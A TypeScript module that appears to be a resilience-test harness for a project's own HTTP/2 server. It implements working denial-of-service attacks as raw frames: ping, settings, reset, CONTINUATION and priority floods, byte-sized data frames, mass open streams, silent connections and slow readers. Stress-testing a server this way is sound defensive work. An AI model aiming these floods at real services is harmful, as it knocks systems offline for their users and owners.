import { setTimeout as delay } from 'node:timers/promises';
import { pb } from '../../src/wire/index.js';
import {
  callHeaders,
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  RawHttp2,
} from '../support/raw-http2.js';

/** What an attacker knows. */
export interface Target {
  readonly port: number;
  /** Of a login that may write. */
  readonly token: string;
  /** Key of a value of `VALUE_BYTES`. */
  readonly bigKey: string;
  readonly until: number;
}

/** @returns what it did, in a few words */
export type Attack = (target: Target) => Promise<string>;

/** Between being cut and coming back. */
const PAUSE_MS = 50;
const CANCEL = Buffer.from([0, 0, 0, 8]);
const SLOW_BYTES_A_SECOND = 10_000;

function over({ until }: Target): boolean {
  return Date.now() >= until;
}

function many(count: number, bytes: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

/** Connects, floods until it is cut, comes back, on some connections at once. */
async function flood(
  target: Target,
  connections: number,
  attack: (raw: RawHttp2) => AsyncIterable<Buffer> | Iterable<Buffer>,
): Promise<string> {
  let cut = 0;
  let bytes = 0;
  await Promise.all(
    Array.from({ length: connections }, async () => {
      while (!over(target)) {
        using raw = await RawHttp2.open(target.port);
        for await (const piece of attack(raw)) {
          bytes += piece.length;
          if (over(target) || !(await raw.flood(piece))) break;
        }
        if (over(target)) return;
        cut++;
        await delay(PAUSE_MS);
      }
    }),
  );
  return `cut ${cut} times, ${(bytes / 1e6).toFixed(1)} MB sent`;
}

function* endless(piece: Buffer): Generator<Buffer> {
  for (;;) yield piece;
}

function* afterHeaders(headers: Buffer, piece: Buffer): Generator<Buffer> {
  yield headers;
  yield* endless(piece);
}

function* resets(): Generator<Buffer> {
  const headers = callHeaders('Health');
  for (let stream = 1; ; ) {
    const pairs: Buffer[] = [];
    for (let i = 0; i < 100; i++, stream += 2) {
      pairs.push(frame(FRAME.headers, END_HEADERS, stream, headers));
      pairs.push(frame(FRAME.reset, 0, stream, CANCEL));
    }
    yield Buffer.concat(pairs);
  }
}

/** One message of 2 MB in frames of a byte. */
function* tinyFrames({ token }: Target): Generator<Buffer> {
  const head = callHeaders('Set', { authorization: token });
  const piece = many(2000, frame(FRAME.data, 0, 1, Buffer.from([10])));
  yield frame(FRAME.headers, END_HEADERS, 1, head);
  yield frame(FRAME.data, 0, 1, Buffer.from([0, 0, 0x1e, 0x84, 0x80]));
  for (let i = 0; i < 1000; i++) yield piece;
}

/** Calls that never send their message: 20,000 in the first half of the time, all open in the second. */
async function streams(target: Target): Promise<string> {
  const connections = await Promise.all(
    Array.from({ length: 20 }, () => RawHttp2.open(target.port)),
  );
  const headers = callHeaders('CurrentState', { authorization: target.token });
  const begin = Date.now();
  const openingMs = (target.until - begin) / 2;
  let opened = 0;
  for (let i = 0; i < 1000; i++) {
    for (const raw of connections) raw.write(frame(FRAME.headers, END_HEADERS, 1 + 2 * i, headers));
    opened += connections.length;
    await delay(Math.max(0, begin + (openingMs * i) / 1000 - Date.now()));
  }
  await delay(Math.max(0, target.until - Date.now()));
  const answered = connections.reduce((sum, raw) => sum + raw.count(FRAME.headers), 0);
  for (const raw of connections) raw.socket.destroy();
  return `${opened} streams opened, ${answered} taken by the server`;
}

/** Connections that never say a word. */
async function silent(target: Target): Promise<string> {
  const connections: RawHttp2[] = [];
  for (let i = 0; i < 2000; i += 50) {
    const some = Array.from({ length: 50 }, () => RawHttp2.open(target.port, { silent: true }));
    connections.push(...(await Promise.all(some)));
  }
  const opened = connections.filter((raw) => !raw.isClosed).length;
  await Promise.race([
    Promise.all(connections.map((raw) => raw.closed)),
    delay(Math.max(0, target.until - Date.now())),
  ]);
  const closed = connections.filter((raw) => raw.isClosed).length;
  for (const raw of connections) raw.socket.destroy();
  return `${opened} opened, ${closed} of them closed by the server`;
}

/** Answers of a megabyte, taken at 10 KB/s. */
async function slowReaders(target: Target): Promise<string> {
  const connections = await Promise.all(
    Array.from({ length: 50 }, () => RawHttp2.open(target.port)),
  );
  const headers = callHeaders('Get', { authorization: target.token });
  const request = pb.encodeKeyRequest({ key: Buffer.from(target.bigKey) });
  const message = Buffer.concat([Buffer.from([0, 0, 0, 0, request.length]), request]);
  for (const raw of connections) {
    raw.write(frame(FRAME.headers, END_HEADERS, 1, headers));
    raw.write(frame(FRAME.data, END_STREAM, 1, message));
  }
  const step = Buffer.alloc(4);
  step.writeUInt32BE(SLOW_BYTES_A_SECOND / 5);
  const open = Buffer.concat([
    frame(FRAME.windowUpdate, 0, 0, step),
    frame(FRAME.windowUpdate, 0, 1, step),
  ]);
  while (!over(target)) {
    await delay(200);
    for (const raw of connections) raw.write(open);
  }
  const alive = connections.filter((raw) => !raw.isClosed).length;
  for (const raw of connections) raw.socket.destroy();
  return `${connections.length} readers, ${alive} still served at the end`;
}

const startOfHeaders = frame(FRAME.headers, 0, 1, callHeaders('Health'));
const openCall = frame(FRAME.headers, END_HEADERS, 1, callHeaders('Health'));
const moreHeaders = Buffer.concat([Buffer.from([0, 1, 0x78, 120]), Buffer.alloc(120, 'y')]);

export const ATTACKS: Readonly<Record<string, Attack>> = {
  ping: (target) =>
    flood(target, 4, () => endless(many(1000, frame(FRAME.ping, 0, 0, Buffer.alloc(8))))),
  settings: (target) => flood(target, 4, () => endless(many(1000, frame(FRAME.settings, 0, 0)))),
  reset: (target) => flood(target, 4, resets),
  continuation: (target) =>
    flood(target, 4, () =>
      afterHeaders(startOfHeaders, many(100, frame(FRAME.continuation, 0, 1, moreHeaders))),
    ),
  emptyData: (target) =>
    flood(target, 4, () => afterHeaders(openCall, many(1000, frame(FRAME.data, 0, 1)))),
  priority: (target) =>
    flood(target, 4, () =>
      endless(many(1000, frame(FRAME.priority, 0, 1, Buffer.from([0, 0, 0, 3, 1])))),
    ),
  tinyFrames: (target) => flood(target, 2, () => tinyFrames(target)),
  streams,
  streamsAgain: streams,
  silent,
  slowReaders,
};
